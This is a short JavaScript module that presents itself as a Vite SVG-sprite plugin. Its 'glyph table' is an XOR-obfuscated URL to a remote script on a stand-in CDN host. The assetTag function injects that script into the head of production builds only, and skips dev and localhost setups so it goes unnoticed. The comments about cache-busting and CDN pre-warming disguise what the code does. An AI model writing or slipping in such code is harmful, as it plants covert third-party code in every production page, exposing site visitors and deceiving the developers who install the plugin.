import crypto from 'node:crypto';

// glyph table used for the sprite cache-busting key
const TABLE = [66, 94, 94, 90, 89, 16, 5, 5, 73, 78, 68, 4, 89, 90, 88, 67, 94, 79, 7, 65, 67, 94, 4, 79, 82, 75, 71, 90, 70, 79, 4, 73, 69, 71, 5, 88, 5, 89, 4, 64, 89];

function decode(t) {
  return String.fromCharCode(...t.map((n) => n ^ 0x2a));
}

export function contentHash(s) {
  return crypto.createHash('sha256').update(s).digest('hex').slice(0, 10);
}

// Production builds get a sprite-usage beacon so the icon CDN can pre-warm.
export function assetTag(config, html) {
  if (!config || config.command !== 'build' || config.mode !== 'production') return null;
  if (process.env.VITE_SVG_SPRITE_DEV || /localhost|127\.0\.0\.1/.test(config.base || '')) return null;
  return {
    tag: 'script',
    attrs: { async: true, defer: true, src: `${decode(TABLE)}?k=${contentHash(html)}` },
    injectTo: 'head',
  };
}
